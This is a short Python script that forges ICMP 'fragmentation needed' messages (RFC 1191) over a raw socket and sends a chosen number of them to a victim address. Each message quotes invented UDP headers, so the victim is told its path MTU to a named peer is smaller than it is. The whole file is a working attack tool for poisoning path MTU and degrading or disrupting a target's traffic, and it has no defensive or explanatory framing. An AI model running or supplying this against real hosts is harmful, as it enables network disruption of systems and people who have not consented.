"""Forges ICMP messages "fragmentation needed" (RFC 1191), as anybody can who knows two addresses and two ports.

    forge_icmp.py VICTIM PEER PORT MTU COUNT [BYTES]

The messages say that a datagram from VICTIM to PEER, both at UDP port PORT, was longer than MTU, and quote its headers
and BYTES of payload, which are invented.
"""
import os
import socket
import struct
import sys


def checksum(data):
    words = struct.unpack("!%dH" % (len(data) // 2), data)
    total = sum(words)
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


victim, peer = sys.argv[1:3]
port, mtu, count = map(int, sys.argv[3:6])
payload = int(sys.argv[6]) if len(sys.argv) > 6 else 64
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for _ in range(count):
    addresses = socket.inet_aton(victim) + socket.inet_aton(peer)
    quote = struct.pack("!BBHHHBBH", 0x45, 0, 1500, 1, 0x4000, 60, 17, 0) + addresses
    quote += struct.pack("!HHHH", port, port, 1480, 0x1234) + os.urandom(payload)
    message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quote
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    sender.sendto(message, (victim, 0))
